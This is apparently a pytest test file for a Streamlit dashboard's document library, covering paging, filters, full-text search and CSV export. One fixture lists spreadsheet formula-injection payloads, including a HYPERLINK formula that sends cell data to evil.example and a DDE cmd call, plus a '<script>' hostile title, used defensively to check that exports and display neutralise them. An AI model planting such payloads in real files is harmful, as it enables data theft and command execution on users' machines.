"""Library: stored documents with their evaluation, search, filters, paging and the CSV export."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy.orm import Session, sessionmaker
from streamlit.testing.v1 import AppTest

from core.vocabulary import ArtifactStatus
from dashboard import library, views
from data.models import Artifact, Batch, Evaluation, Source, utcnow
from tests.dashboard.conftest import Downloads, OpenPage
from tests.dashboard.seed import HOSTILE, Seeded


def count_caption(at: AppTest) -> str:
    return str(at.caption[0].value)


def test_newest_first_with_label_confidence_rationale_source(seeded: Seeded, open_page: OpenPage) -> None:
    at = open_page("library")
    total = len(seeded.stored_at)
    assert count_caption(at).startswith(f"{total} document(s) match")

    page = at.dataframe[0].value
    assert len(page) == 50  # a page, never the whole table
    assert list(page.columns) == library.PAGE_COLUMNS
    assert page["stored"].is_monotonic_decreasing
    assert page["stored"].iloc[0] == max(seeded.stored_at)
    assert set(page["source"]) <= set(seeded.sources)
    assert set(page["label"]) <= {"relevant", "review", "irrelevant"}
    assert page["confidence"].between(0, 1).all() and page["rationale"].str.startswith("mentions").all()

    at.pagination[0].select(2).run()
    assert len(at.dataframe[0].value) == total - 50


def test_filters_narrow_the_count_and_rows(seeded: Seeded, open_page: OpenPage) -> None:
    at = open_page("library")
    at.selectbox(key="library_source").select(seeded.sources["alpha"]).run()
    assert count_caption(at).startswith(f"{seeded.stored_by_source['alpha']} document(s)")
    assert set(at.dataframe[0].value["source"]) == {"alpha"}

    at.selectbox(key="library_source").select(None).run()
    at.selectbox(key="library_label").select("review").run()
    assert count_caption(at).startswith(f"{seeded.stored_by_label['review']} document(s)")

    at.selectbox(key="library_label").select(None).run()
    at.number_input(key="library_min_relevance").set_value(0.7).run()
    assert count_caption(at).startswith(f"{sum(r >= 0.7 for r in seeded.relevance)} document(s)")
    shown = at.dataframe[0].value
    assert (shown["relevance"] >= 0.7).all() and set(shown["evaluator"]) == {"semantic"}
    assert set(shown["topics version"]) == {"0123456789ab"}

    at.number_input(key="library_min_relevance").set_value(0.0).run()
    at.selectbox(key="library_language").select("de").run()
    assert count_caption(at).startswith(f"{seeded.stored_by_language['de']} document(s)")
    assert set(at.dataframe[0].value["language"]) == {"de"}

    at.selectbox(key="library_language").select(None).run()
    day = seeded.now.date()
    at.date_input(key="library_dates").set_value((day, day)).run()
    today = sum(1 for t in seeded.stored_at if t.date() == day)
    assert count_caption(at).startswith(f"{today} document(s)")


def test_search_matches_titles_and_text(seeded: Seeded, open_page: OpenPage) -> None:
    at = open_page("library", q="b2 REPORT")  # case-insensitive, in titles
    assert count_caption(at).startswith("4 document(s)")
    assert set(at.dataframe[0].value["title"]) == {f"b2 report {n:03d}" for n in range(4)}

    at.text_input(key="q").input("about ransomware").run()  # in the text of odd-numbered documents
    odd = sum(
        1 for key, n in (("b1", 3), ("b2", 4), ("b3", 2), ("b4", 1), ("b5", 60)) for s in range(n) if s % 2
    )
    assert count_caption(at).startswith(f"{odd} document(s)")

    at.text_input(key="q").input("100%_").run()  # LIKE wildcards are searched for, not obeyed
    assert count_caption(at).startswith("0 document(s)")


def test_csv_export_is_the_filtered_set_capped(seeded: Seeded, dashboard_env: sessionmaker[Session]) -> None:
    f = library.LibraryFilter(source_id=seeded.sources["beta"])
    rows = list(csv.DictReader(io.StringIO(views.library_csv(f)())))
    assert len(rows) == seeded.stored_by_source["beta"]
    assert {r["source"] for r in rows} == {"beta"}
    assert [r["stored"] for r in rows] == sorted((r["stored"] for r in rows), reverse=True)

    with dashboard_env() as session:  # chunked keyset reads stop at the cap
        capped = list(csv.DictReader(io.StringIO(library.library_csv(session, f, cap=7, chunk=3))))
        everything = list(csv.DictReader(io.StringIO(library.library_csv(session, f, chunk=3))))
    assert [r["id"] for r in capped] == [r["id"] for r in rows[:7]]
    assert [r["id"] for r in everything] == [r["id"] for r in rows]


def test_csv_times_are_in_the_configured_zone_with_their_offset(
    seeded: Seeded, dashboard_env: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    from datetime import datetime
    from zoneinfo import ZoneInfo

    monkeypatch.setenv("LOREGUARD_TIMEZONE", "America/Sao_Paulo")  # UTC-03:00 all year
    rows = list(csv.DictReader(io.StringIO(views.library_csv(library.LibraryFilter())())))
    assert rows and all(r["stored"].endswith("-03:00") for r in rows)
    newest = datetime.fromisoformat(rows[0]["stored"])
    assert newest == max(seeded.stored_at)  # the same instant, written as the zone's clock shows it
    assert newest.astimezone(ZoneInfo("America/Sao_Paulo")).hour == newest.hour


def test_csv_export_is_offered_with_its_cap_stated(seeded: Seeded, open_page: OpenPage) -> None:
    at = open_page("library")
    assert [b.label for b in at.download_button] == ["Download CSV"]
    assert any(f"at most {library.EXPORT_CAP:,} rows" in c.value for c in at.caption)


# Titles that a spreadsheet would run as formulas, newest first, and what the downloaded CSV must hold.
FORMULA_TITLES = [
    ('=HYPERLINK("http://evil.example/?d="&A1,"open")', '\'=HYPERLINK("http://evil.example/?d="&A1,"open")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("plain title = fine", "plain title = fine"),
]


def test_the_downloaded_csv_neutralises_formula_cells(
    dashboard_env: sessionmaker[Session], open_page: OpenPage, downloads: Downloads
) -> None:
    now = utcnow()
    with dashboard_env.begin() as session:
        source = Source(name="@feeds", kind="folder", location="/srv/feeds")
        session.add(source)
        session.flush()
        batch = Batch(source_id=source.id, status="completed")
        session.add(batch)
        session.flush()
        for seq, (title, _) in enumerate(FORMULA_TITLES):
            artifact = Artifact(
                batch_id=batch.id, source_id=source.id, seq=seq, uri=f"file:///srv/feeds/{seq}.txt",
                content_type="text/plain", status=ArtifactStatus.STORED, title=title, language="en",
                stored_at=now - timedelta(minutes=seq),
            )  # fmt: skip
            session.add(artifact)
            session.flush()
            session.add(
                Evaluation(artifact_id=artifact.id, label="review", confidence=0.5, rationale="-1 point", evaluator="x")
            )  # fmt: skip

    at = open_page("library")
    served = downloads.served(at, "library_csv")
    assert (served.mimetype, served.file_name) == ("text/csv", "loreguard-library.csv")
    rows = list(csv.reader(io.StringIO(served.data.decode("utf-8"), newline="")))
    assert rows[0] == library.LIBRARY_COLUMNS
    rationale = library.LIBRARY_COLUMNS.index("rationale")
    assert [(r[1], r[2], r[rationale]) for r in rows[1:]] == [
        (expected, "'@feeds", "'-1 point") for _, expected in FORMULA_TITLES
    ]
    for title, _ in FORMULA_TITLES[:-1]:  # no formula starts a cell anywhere in the file
        assert f",{title}".encode() not in served.data and f',"{title}'.encode() not in served.data


def test_the_hostile_title_is_a_plain_cell(seeded: Seeded, open_page: OpenPage) -> None:
    at = open_page("library", q="<script>")
    page = at.dataframe[0].value
    assert list(page["title"]) == [HOSTILE]
    assert list(page["source"]) == [HOSTILE]


def test_full_text_search_ranks_and_follows_every_write(session_factory: sessionmaker[Session]) -> None:
    """On SQLite (FTS5) and PostgreSQL (tsvector): whole words or `word*` prefixes, all required, a title match first; the
    index follows inserts, the store step's text update and deletes (triggers), and skips unstored documents."""
    with session_factory.begin() as session:
        source = Source(name="feeds", kind="feed", location="https://example.org/feed.xml")
        session.add(source)
        session.flush()
        batch = Batch(source_id=source.id, status="completed", started_at=utcnow())
        session.add(batch)
        session.flush()
        docs = {
            "title": ("Ransomware gang hits hospitals", "a report on extortion"),
            "text": ("Weekly digest", "ransomware and phishing campaigns against hospitals"),
            "other": ("Sourdough starter", "flour, water and patience"),
            "later": (None, None),  # ingested: no title or text until the store step writes them
        }
        ids = {}
        for seq, (key, (title, body)) in enumerate(docs.items()):
            artifact = Artifact(
                batch_id=batch.id, source_id=source.id, seq=seq, uri=f"https://example.org/{key}",
                content_type="text/html", status=ArtifactStatus.STORED, title=title, text=body,
                stored_at=utcnow() - timedelta(minutes=seq),
            )  # fmt: skip
            session.add(artifact)
            session.flush()
            ids[key] = artifact.id
        session.get(Artifact, ids["later"]).text = "Hospitals report RANSOMWARE again"  # type: ignore[union-attr]

    def titles(search: str) -> list[str | None]:
        with session_factory() as session:
            f = library.LibraryFilter(search=search)
            frame = library.library_page(session, f)
            count, capped = library.library_count(session, f)
            assert count == len(frame) and not capped
            return [ids_by_id[i] for i in frame["id"]]

    ids_by_id = {v: k for k, v in ids.items()}
    found = titles("ransomware")
    assert found[0] == "title" and set(found) == {"title", "text", "later"}  # the title match ranks first
    assert titles("Ransom* HOSPITAL*")[0] == "title"  # prefixes, any case, every word required
    assert set(titles("ransom* hospital*")) == {"title", "text", "later"}
    assert titles("ransom hospital") == []  # whole words unless a * says otherwise
    assert titles("ransomware sourdough") == []
    assert titles("flour") == ["other"]
    assert titles("%*\"'-") == titles("") and len(titles("")) == 4  # punctuation alone is no search

    with session_factory.begin() as session:
        session.delete(session.get(Artifact, ids["title"]))
        session.get(Artifact, ids["text"]).status = "quarantined"  # type: ignore[union-attr]
    assert titles("ransomware") == ["later"]


def test_the_search_says_that_or_not_and_minus_are_no_operators(seeded: Seeded, open_page: OpenPage) -> None:
    at = open_page("library", q="ransomware OR -phishing")
    assert at.text_input(key="q").proto.help.startswith("Every word must appear in the title or text")
    assert any("are not operators here: every word you typed must appear" in c.value for c in at.caption)
    plain = open_page("library", q="ransomware")
    assert not any("are not operators" in c.value for c in plain.caption)
